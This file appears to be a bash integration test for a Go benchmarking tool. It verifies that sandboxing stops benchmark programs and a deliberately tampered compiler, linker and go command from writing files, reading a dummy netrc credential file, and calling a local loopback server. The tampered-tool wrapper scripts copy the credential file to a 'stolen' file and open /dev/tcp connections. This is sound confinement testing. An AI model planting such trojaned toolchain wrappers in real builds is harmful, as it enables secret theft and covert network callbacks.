#!/usr/bin/env bash
# Real toolchains behind walls: a program and a compiler that try to get out do not, without walls they do, and what is
# measured is the same.
# shellcheck source=tests/live/live.sh
. "${TESTS:?run it through tests/run.sh}/live/live.sh"
H=$(mktemp -d "$ROOT/build/live-confine-XXXXXX") # the home of a user who has secrets
trap 'chmod -R u+w "$H"; rm -rf "$H"; cleanup' EXIT

# a server on the loopback interface that writes down who calls; it ends with the test, or after 10 minutes
python3 - "$H/port" "$H/calls" <<'PY' &
import os, socket, sys
s = socket.socket()
s.bind(("127.0.0.1", 0))
s.listen(64)
s.settimeout(600)
open(sys.argv[1] + ".new", "w").write(str(s.getsockname()[1]))
os.rename(sys.argv[1] + ".new", sys.argv[1])
while True:
    c, _ = s.accept()
    open(sys.argv[2], "a").write("call\n")
    c.close()
PY
pids+=($!)
for _ in $(seq 100); do [ -s "$H/port" ] && break; sleep 0.1; done
PORT=$(cat "$H/port")
calls() { grep -c . "$H/calls" 2>/dev/null || true; }
echo "machine example.org password hunter2" > "$H/netrc"

mkdir -p "$T/cases/escape"
cat > "$T/cases/escape/tries.go" <<GO
// title: tries to get out
// go: 1.2
package main

import (
	"fmt"
	"io/ioutil"
	"net"
	"os"
)

func say(what string, err error) {
	if err != nil {
		fmt.Println(what, "refused")
	} else {
		fmt.Println(what, "through")
	}
}

func main() {
	say("own", ioutil.WriteFile("mine", []byte("x"), 0644))
	say("temporary", ioutil.WriteFile(os.TempDir()+"/mine", []byte("x"), 0644))
	say("write", ioutil.WriteFile("$H/written", []byte("x"), 0644))
	_, err := ioutil.ReadFile("$H/netrc")
	say("read", err)
	say("chmod", os.Chmod("$H/netrc", 0644))
	c, err := net.Dial("tcp", "127.0.0.1:$PORT")
	say("dial", err)
	if err == nil {
		c.Read(make([]byte, 1))
	}
}
GO
cat > "$T/cases/escape/measured_test.go" <<GO
// title: a benchmark that tries to get out, at its start and when it is counted and timed
// go: 1.2
package escape

import (
	"io/ioutil"
	"os"
	"testing"
)

var Sink interface{}

func init() {
	ioutil.WriteFile("$H/by-init", []byte("x"), 0644)
}

func leave() {
	if len(os.Args) > 3 {
		ioutil.WriteFile("$H/by-benchmark-"+os.Args[3], []byte("x"), 0644)
	}
}

func BenchmarkLeave(b *testing.B) {
	leave()
	for i := 0; i < b.N; i++ {
		Sink = new([64]byte)
	}
}
func BenchmarkStay(b *testing.B) {
	for i := 0; i < b.N; i++ {
		Sink = new([64]byte)
	}
}
GO
output() { sql "$1" "SELECT replace(stdout, char(10), ';') FROM outputs WHERE go='$2'"; }
in="own through;temporary through;"
run goalloc --db "$T/walls.db" run --go "$LIVE" --mode default --blocks 1 --cases "$T/cases"
is "$status" 0 "a program that tries to get out is a case like any other"
unlike "$err" "not confined" "all walls stand here"
for go in go1.4.3 go1.9.2 "$NEWEST"; do
  is "$(output "$T/walls.db" "$go")" "${in}write refused;read refused;chmod refused;dial refused;" "$go: its program gets nowhere"
done
is "$(cd "$H" && echo written* by-*)" "written* by-*" "nothing was written, at no stage"
is "$(sql "$T/walls.db" "SELECT count(DISTINCT go || purpose) FROM samples WHERE case_name = 'escape/measured'")" 6 "a benchmark that tries is counted and timed"
is "$(calls)" "" "nobody called"
run env GOALLOC_CONFINE=off "$GOALLOC" --cache "$CACHE" --progress plain --db "$T/off.db" run --go "$LIVE" --mode default --blocks 1 --cases "$T/cases"
is "$status" 0 "without walls"
like "$err" "GOALLOC_CONFINE=off" "which is said"
for go in go1.4.3 go1.9.2 "$NEWEST"; do
  is "$(output "$T/off.db" "$go")" "${in}write through;read through;chmod through;dial through;" "$go: its program gets out"
done
is "$(calls)" 3 "the server was called"
like "$(cd "$H" && echo by-*)" "^by-benchmark-[0-9]+ by-benchmark-[0-9]+ .*by-init$" "a benchmark gets out, when it is counted and when it is timed"
rm -f "$H/written" "$H"/by-* "$H/calls"

# a compiler, linker and go command that were tampered with
goroot=$("$GOALLOC" --cache "$CACHE" toolchain list --format csv | awk -F, '$1 == "go1.9.2" { print $6 }')
mkdir "$H/go"
cp -a "$goroot/." "$H/go/"
chmod -R u+w "$H/go"
tools=$(echo "$H"/go/pkg/tool/*_*)
for tool in "$H/go/bin/go" "$tools/compile" "$tools/link"; do
  mv "$tool" "$tool.real"
  cat > "$tool" <<SH
#!/bin/bash
name=\$(basename "\$0")
{ echo x > "$H/by-\$name"; cat "$H/netrc" > "\$TMPDIR/stolen" && cp "\$TMPDIR/stolen" "$H/read-by-\$name"; exec 5<>/dev/tcp/127.0.0.1/$PORT; } 2>/dev/null
exec "\$0.real" "\$@"
SH
  chmod +x "$tool"
done
"$H/go/bin/go.real" version >/dev/null 2>&1
rm -f "$H"/by-* "$H"/read-by-* "$H/calls"
run goalloc --db "$T/tool.db" run --go "evil=$H/go" --mode default --match 'slice/*' --only escape,allocs
is "$status" 0 "a tampered toolchain is used (${err:0:100})"
is "$(cd "$H" && echo by-* read-by-*)" "by-* read-by-*" "its tools write nothing outside"
is "$(calls)" "" "and call nobody"
like "$(sql "$T/tool.db" "SELECT count(*) || ' ' || min(status) || ' ' || max(status) FROM cells")" "^[1-9][0-9]* (ok|unsupported) " "its cells are there"
run env GOALLOC_CONFINE=off "$GOALLOC" --cache "$CACHE" --progress none --db "$T/tool-off.db" run --go "evil=$H/go" --mode default --match 'slice/*' --only escape,allocs
is "$(cd "$H" && echo by-* read-by-*)" "by-compile by-go by-link read-by-compile read-by-go read-by-link" "without walls they do"
[ -s "$H/calls" ]; report $? "and call"

# the same figures on both sides
rows() { sqlite3 "$T/a.db" "ATTACH '$T/b.db' AS b; $1"; }
counts="SELECT go, mode, case_name, benchmark, min(allocs_per_op) AS allocs, min(bytes_per_op) AS bytes FROM %s.samples
  WHERE purpose = 'allocs' GROUP BY 1, 2, 3, 4"
rm -rf "$CACHE/bundles"
run goalloc --db "$T/a.db" run --go "$LIVE" --match 'slice/*' --only escape,allocs
rm -rf "$CACHE/bundles"
run env GOALLOC_CONFINE=off "$GOALLOC" --cache "$CACHE" --progress none --db "$T/b.db" run --go "$LIVE" --match 'slice/*' --only escape,allocs
joined="FROM (${counts//%s/main}) AS x JOIN (${counts//%s/b}) AS y USING (go, mode, case_name, benchmark)"
[ "$(rows "SELECT count(*) $joined")" -gt 100 ]; report $? "there is something to compare: $(rows "SELECT count(*) $joined") benchmarks"
# the counters are the process's: a stray malloc in an iteration or two is the runtime's
is "$(rows "SELECT go, mode, case_name, benchmark, x.allocs, y.allocs $joined WHERE x.allocs <> y.allocs
  OR abs(x.bytes - y.bytes) > 2 + x.bytes / 1000")" "" "allocs/op and B/op are the same with and without walls"
for view in cells decisions runtime_calls; do
  case $view in
    cells) columns="go, mode, case_name, status, reason" ;;
    decisions) columns="go, mode, case_name, kind, line, col, subject, detail" ;;
    *) columns="go, mode, case_name, function, line, callee, calls" ;;
  esac
  is "$(rows "SELECT $columns FROM main.$view EXCEPT SELECT $columns FROM b.$view;
    SELECT $columns FROM b.$view EXCEPT SELECT $columns FROM main.$view" | head -5)" "" "and so are the $view"
done
done_testing
